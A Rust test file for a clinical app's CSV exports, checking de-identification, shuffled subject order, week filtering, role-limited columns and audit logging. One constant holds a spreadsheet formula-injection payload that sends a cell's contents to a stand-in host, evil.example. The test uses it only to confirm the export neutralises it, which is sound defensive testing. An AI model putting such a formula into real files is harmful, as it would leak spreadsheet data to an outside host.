//! What is in the tables, and what is not.

use rstest::rstest;
use serde_json::{Value, json};

use super::people::{by_name, without_names};
use crate::app::Database::{self, Postgres, Sqlite};
use crate::app::start;
use crate::client::FACTS;
use crate::weeks::{monday, week, with, without};

/// What a spreadsheet would run.
const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"ada\")";

#[rstest]
#[tokio::test]
async fn r119_nothing_in_an_export_without_names_tells_whose_it_is(
    #[values(Sqlite, Postgres)] on: Database,
    #[values("csv", "csv-long")] format: &str,
) {
    let app = start!(on);
    let (clinic, kim) = app.clinic_and_kim().await;
    let ada = app.patient("ada").await;
    let facts = json!({
        "time_zone": "Europe/Berlin", "symptom_onset": "2025-11-17", "birth_year": 1920,
        "sex": "female", "gene": "SOD1",
    });
    let tag = ada.get(FACTS).await.expect(200).etag().to_owned();
    let changing = ada.with_header("If-Match", &tag);
    changing.put(FACTS, facts).await.expect(200);
    let enrolled = clinic.enrol(&kim, &ada).await;
    let noted = with(week("2026-11-18"), "/note", "Ada Lovelace was here");
    ada.record("2026-W47", noted).await.expect(201);
    ada.rate(&["2026-W46"]).await;

    let export = clinic.export(&kim, without_names(format)).await;

    for file in export["files"].as_array().unwrap() {
        let name = file["name"].as_str().unwrap();
        let text = kim
            .get(&clinic.file_of(&export, name))
            .await
            .expect(200)
            .text;
        for telling in [
            "Ada", "ada@", "Lovelace", "2026-", "2025-", "1920", "Berlin",
        ] {
            assert!(!text.contains(telling), "{telling} in {name}: {text}");
        }
        let theirs = [&ada.account_id, ada.patient_id.as_ref().unwrap()];
        assert!(
            !theirs.iter().any(|id| text.contains(id.as_str())),
            "{name}"
        );
    }
    let patients = clinic.rows(&kim, &export, "patients.csv").await;
    assert_ne!(patients[0]["subject_id"], enrolled["subject_id"]);
    assert_eq!(patients[0]["age"], "90", "or more");
    assert_eq!(patients[0]["onset_day"], "-357");
    let first = export["files"][0]["name"].as_str().unwrap();
    let rows = clinic.rows(&kim, &export, first).await;
    assert_eq!(rows[0]["day"], "0");
    assert_eq!(rows.last().unwrap()["day"], "9");
}

#[rstest]
#[tokio::test]
async fn r119_two_exports_do_not_call_patients_the_same(#[values(Sqlite, Postgres)] on: Database) {
    let app = start!(on);
    let (clinic, kim) = app.clinic_and_kim().await;
    for number in 0..6 {
        let patient = app.patient(&format!("pat{number}")).await;
        clinic.enrol(&kim, &patient).await;
        let hurt = with(week("2026-11-18"), "/symptoms", json!({ "pain": number }));
        patient.record("2026-W47", hurt).await.expect(201);
    }

    let mut orders: Vec<Vec<Value>> = Vec::new();
    for _ in 0..3 {
        let export = clinic.export(&kim, without_names("csv")).await;
        let rows = clinic.rows(&kim, &export, "entries.csv").await;
        let ids: Vec<_> = rows.iter().map(|row| row["subject_id"].clone()).collect();
        assert_eq!(ids, ["1", "2", "3", "4", "5", "6"]);
        orders.push(rows.iter().map(|row| row["pain"].clone()).collect());
    }

    orders.dedup();
    assert!(orders.len() > 1, "always the same order: {orders:?}");
}

#[rstest]
#[tokio::test]
async fn r113_an_export_by_name_has_days_and_notes_and_runs_nothing(
    #[values(Sqlite, Postgres)] on: Database,
) {
    let app = start!(on);
    let clinic = app.clinic().await;
    let kim = clinic.staff_afresh("kim", "clinician").await;
    let dia = clinic.staff_afresh("dia", "data_manager").await;
    let ada = app.patient("ada").await;
    let enrolled = clinic.enrol(&kim, &ada).await;
    let noted = with(week("2026-11-18"), "/note", FORMULA);
    ada.record("2026-W47", noted).await.expect(201);
    let part = without(week("2026-11-11"), "/answers/walking");
    ada.record("2026-W46", part).await.expect(201);

    let export = clinic.export(&kim, by_name("csv")).await;
    let rows = clinic.rows(&kim, &export, "entries.csv").await;

    assert_eq!(rows[0]["subject_id"], enrolled["subject_id"]);
    assert_eq!(rows[0]["assessed_on"], "2026-11-11");
    assert_eq!(rows[0]["total"], "", "nothing is imputed");
    assert_eq!(rows[1]["total"], "45");
    assert_eq!(rows[1]["note"], format!("'{FORMULA}"));
    assert!(
        !json!(rows).to_string().contains("Ada"),
        "names are in no export"
    );
    let managed = clinic.export(&dia, by_name("csv")).await;
    let rows = clinic.rows(&dia, &managed, "entries.csv").await;
    assert_eq!(rows[1]["assessed_on"], "2026-11-18");
    assert_eq!(rows[1].get("note"), None, "a data manager reads no words");
}

#[rstest]
#[tokio::test]
async fn an_export_has_the_weeks_that_were_asked_for_and_none_that_was_removed(
    #[values(Sqlite, Postgres)] on: Database,
) {
    let app = start!(on);
    let clinic = app.clinic().await;
    let kim = clinic.staff_afresh("kim", "clinician").await;
    let ada = clinic.patient(&kim, "ada").await;
    let weeks = ["2026-W43", "2026-W44", "2026-W45", "2026-W46", "2026-W47"];
    ada.rate(&weeks).await;
    let first = ada.with_header("If-Match", "\"v1\"");
    let path = "/v1/patients/{patient}/entries";
    first.delete(&format!("{path}/2026-W45")).await.expect(204);
    let better = with(week(&monday("2026-W46")), "/answers/speech", 3);
    first
        .put(&format!("{path}/2026-W46"), better)
        .await
        .expect(200);

    let wanted = with(by_name("csv"), "/from", "2026-W44");
    let export = clinic.export(&kim, with(wanted, "/to", "2026-W46")).await;

    let rows = clinic.rows(&kim, &export, "entries.csv").await;
    let told: Vec<_> = rows
        .iter()
        .map(|row| (&row["week"], &row["speech"]))
        .collect();
    assert_eq!(
        told,
        [
            (&json!("2026-W44"), &json!("4")),
            (&json!("2026-W46"), &json!("3"))
        ]
    );
}

#[rstest]
#[tokio::test]
async fn a_rating_that_was_removed_does_not_decide_when_a_patient_began(
    #[values(Sqlite, Postgres)] on: Database,
) {
    let app = start!(on);
    let clinic = app.clinic().await;
    let kim = clinic.staff_afresh("kim", "clinician").await;
    let ada = clinic.patient(&kim, "ada").await;
    ada.rate(&["2026-W40", "2026-W46", "2026-W47"]).await;
    let first = ada.with_header("If-Match", "\"v1\"");
    let wrong = "/v1/patients/{patient}/entries/2026-W40";
    first.delete(wrong).await.expect(204);

    let days = async |wanted: Value| -> Vec<Value> {
        let export = clinic.export(&kim, wanted).await;
        let rows = clinic.rows(&kim, &export, "entries.csv").await;
        rows.iter().map(|row| row["day"].clone()).collect()
    };

    assert_eq!(days(without_names("csv")).await, ["0", "7"]);
    let as_before = "the days of an earlier cut stay what they were";
    assert_eq!(days(by_name("csv")).await, ["42", "49"], "{as_before}");
}

#[rstest]
#[tokio::test]
async fn r118_every_export_is_written_down_for_the_clinic_and_for_each_patient_in_it(
    #[values(Sqlite, Postgres)] on: Database,
) {
    let app = start!(on);
    let (clinic, kim) = app.clinic_and_kim().await;
    let ada = clinic.patient(&kim, "ada").await;
    ada.rate(&["2026-W47"]).await;

    let export = clinic.export(&kim, without_names("csv")).await;
    kim.get(&clinic.file_of(&export, "entries.csv"))
        .await
        .expect(200);

    for action in ["asked", "made", "fetched", "without_name"] {
        assert_eq!(app.written_down(&format!("export.{action}")), 1, "{action}");
    }
    let hash = export["files"][0]["sha256"].as_str().unwrap();
    let made = "select detail from audit_events where action = 'export.made'";
    let made = match on {
        Sqlite => app.query_text(made),
        Postgres => app.query_text(&made.replace("detail", "detail::text")),
    };
    assert!(made.contains(hash), "{made}");
    let log = ada
        .get("/v1/patients/{patient}/access-log")
        .await
        .expect(200);
    assert!(
        log.text
            .contains("took your ratings out in an export without names"),
        "{}",
        log.text
    );
}
